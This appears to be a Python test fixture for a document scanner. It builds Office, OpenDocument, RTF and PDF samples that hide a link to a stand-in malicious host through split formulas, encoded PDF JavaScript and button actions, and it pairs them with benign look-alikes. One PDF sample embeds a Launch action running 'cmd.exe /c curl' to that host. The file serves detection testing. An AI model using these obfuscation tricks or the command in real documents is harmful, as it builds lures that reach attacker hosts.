"""Documents as lures of 2025 and 2026 carry their link in them, and honest ones that look alike."""

from __future__ import annotations

import struct

from tests import scan_samples as samples
from tests.mail_files import packed
from tests.scan_lures import DRAWN, EVIL, OFFICE, pressed

_URL_MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
WIDE = f"{EVIL}\0".encode("utf-16-le")
MIME_PAGE = f"MIME-Version: 1.0\nContent-Type: text/html\n\n<html><a href='{EVIL}'>Voir</a></html>".encode()
OPEN_DOCUMENT = {"META-INF/manifest__xml": b"<m/>"}


def old_text(said: bytes) -> bytes:
    return samples.ole({"WordDocument": b"\xec\xa5\xc1\x00" + bytes(600) + said})


def old_book(*monikers: bytes) -> bytes:
    linked = b"".join(_URL_MONIKER + struct.pack("<I", len(one)) + one for one in monikers)
    records = struct.pack("<HH", 0x809, 16) + bytes(16) + struct.pack("<HH", 0x0A, 0)
    return samples.ole({"Workbook": records + struct.pack("<HH", 0x1B8, len(linked)) + linked})


def formula(*tokens: bytes | str, wide: bool = False) -> bytes:
    """Of a cell, texts among its tokens."""
    letters = "utf-16-le" if wide else "latin-1"
    told = (
        b"\x17"
        + struct.pack("<H" if wide else "<BB", *((len(one),) if wide else (len(one), 0)))
        + one.encode(letters)
        if isinstance(one, str)
        else one
        for one in tokens
    )
    return bytes(20) + b"".join(told)


def old_formula(*tokens: bytes | str) -> bytes:
    cell = formula(*tokens)
    return samples.ole({"Workbook": struct.pack("<HH", 6, len(cell)) + cell})


def packed_formula(*tokens: bytes | str) -> bytes:
    return samples.xlsx(**{"xl/worksheets/sheet1__bin": formula(*tokens, wide=True)})


OPENS, BY_NAME, IF = b"\x42\x02\x67\x01", b"\x42\x02\xff\x00", b"\x42\x03\x01\x00"
"""HYPERLINK; a function by its name; IF (MS-XLS 2.5.198.17)."""
CELL, JOIN = b"\x44\x00\x00\x01\xc0", b"\x08"


def old_slides(text: bytes) -> bytes:
    return samples.ole({"PowerPoint Document": struct.pack("<HHI", 0x10, 0xFBA, len(text)) + text})


def on_event(event: str, action: str) -> bytes:
    return samples.pdf(
        page=f"/Annots[<</Type/Annot/Subtype/Widget/FT/Btn/Rect[0 0 9 9]/AA<</{event}<<{action}>>>>>>]"
    )


LEADS: dict[str, bytes] = {
    "old text": old_text(f'\x13 HYPERLINK "{EVIL}" \x14Voir\x15'.encode()),
    "old text in letters of two bytes": old_text(f'\x13 HYPERLINK "{EVIL}" \x14'.encode("utf-16-le")),
    "old table": old_book("https://a.example\0".encode("utf-16-le"), WIDE + bytes(24)),
    "old table, a formula": old_formula(EVIL, "https://a.example", OPENS),
    "old table, a formula in pieces": old_formula(EVIL[:9], EVIL[9:12], JOIN, EVIL[12:], JOIN, CELL, OPENS),
    "old table, a formula that fetches": old_formula(b"\x39" + bytes(6), EVIL, BY_NAME),
    "old table, a formula in letters of two bytes": samples.ole(
        {"Workbook": bytes(24) + b"\x17%c\1" % len(EVIL) + EVIL.encode("utf-16-le") + OPENS}
    ),
    "packed table, a formula": packed_formula(EVIL, "https://a.example", OPENS),
    "packed table, a formula in pieces": packed_formula(EVIL[:9], EVIL[9:], JOIN, CELL, OPENS),
    "table, a picture that it fetches": samples.xlsx(
        **{"xl/worksheets/sheet1__xml": f'<f>_xlfn.IMAGE("{EVIL}")</f>'.encode()}
    ),
    "old slides": old_slides(WIDE[:-2]),
    "text in one XML": f"<?mso-application progid='Word.Document'?><w:x><w:hlink w:dest='{EVIL}'/></w:x>".encode(),
    "text in one XML, a field": (
        f"<?mso-application progid='Word.Document'?><w:instrText>HYPERLINK \"{EVIL}\"</w:instrText>".encode()
    ),
    "text in one XML of today, a field": (
        f"<pkg:package><w:instrText>HYPER</w:instrText><w:instrText>LINK \"{EVIL}\"</w:instrText>".encode()
    ),
    "table in one XML": f"<?mso-application progid='Excel.Sheet'?><ss:Cell ss:HRef='{EVIL}'/>".encode(),
    "OpenDocument in one XML": (
        f"<?xml version='1.0'?><office:document><text:a xlink:href='{EVIL}'>Voir</text:a>".encode("utf-16")
    ),
    "OpenDocument, a formula": packed(
        content__xml=f"<x table:formula='of:=HYPERLINK(&quot;{EVIL}&quot;;&quot;Voir&quot;)'/>".encode(),
        **OPEN_DOCUMENT,
    ),
    "OpenDocument, the head of a page": packed(
        content__xml=b"<x/>", styles__xml=f"<text:a xlink:href='{EVIL}'>Voir</text:a>".encode(), **OPEN_DOCUMENT
    ),
    "document that takes in a page": samples.docx(
        **{
            "word/_rels/document__xml__rels": f"<Relationship Type='{OFFICE}aFChunk' Target='x.html'/>".encode(),
            "word/x__html": f"<html><a href='{EVIL}'>Voir</a></html>".encode(),
        }
    ),
    "document that takes in a page of many parts": samples.docx(**{"word/x__mht": MIME_PAGE}),
    "document with a drawing": samples.docx(
        **{"word/media/a__svg": (DRAWN % f"<a xlink:href='{EVIL}'/>").encode()}
    ),
    "rtf, a field in pieces": (
        b"{\\rtf1{\\field{\\*\\fldinst {HYPER}{LINK} {\\b \"%s}{%s\"}}{\\fldrslt Voir}}}"
        % (EVIL[:12].encode(), EVIL[12:].encode())
    ),
    "pdf, a button when it is let go": on_event("U", f"/S/URI/URI({EVIL})"),
    "pdf, a button when the mouse is over it": on_event("E", f"/S/SubmitForm/F({EVIL})"),
    "pdf, a script in pieces": pressed(f"/S/JavaScript/JS(app.launchURL\\('{EVIL[:6]}'+'{EVIL[6:]}'\\))"),
    "pdf, a script in numbers": pressed(
        f"/S/JavaScript/JS(app.launchURL\\(String.fromCharCode\\({','.join(str(ord(one)) for one in EVIL)}\\)\\))"
    ),
    "pdf, a command": pressed(f"/S/Launch/Win<</F(cmd.exe)/P(/c curl {EVIL})>>"),
}  # fmt: skip
NOWHERE: dict[str, bytes] = {
    "old table that compares": old_formula(CELL, "https://a.example", b"\x0b", IF),
    "old table of addresses": old_formula("https://a.example", bytes(60), EVIL, b"\x0b", IF),
    "old text that speaks of links": old_text(f'Ecrire HYPERLINK puis {EVIL} "ici"'.encode()),
    "old table with a place in itself": old_book("Feuil2!A1\0".encode("utf-16-le")),
    "old slides with a title": old_slides("Voir la d\u00e9lib\u00e9ration https".encode("utf-16-le")),
    "OpenDocument in one XML with a picture": (
        b"<office:document><draw:image xlink:href='Pictures/a.png'/><text:a xlink:href='#Annexe'>x</text:a>"
    ),
    "table with a formula": packed(
        content__xml=b"<x table:formula='of:=SUM([.A1:.A9])&amp;HYPERLINK([.A1])'/>", **OPEN_DOCUMENT
    ),
    "document with a coat of arms": samples.docx(
        **{"word/media/a__svg": (DRAWN % "<use xlink:href='#lys'/><script>x</script>").encode()}
    ),
    "pdf, a field that computes": on_event("K", "/S/JavaScript/JS(event.value = 'a' + 'b';)"),
    "pdf, a page beside it": pressed("/S/URI/URI(annexes/plan.pdf)"),
}
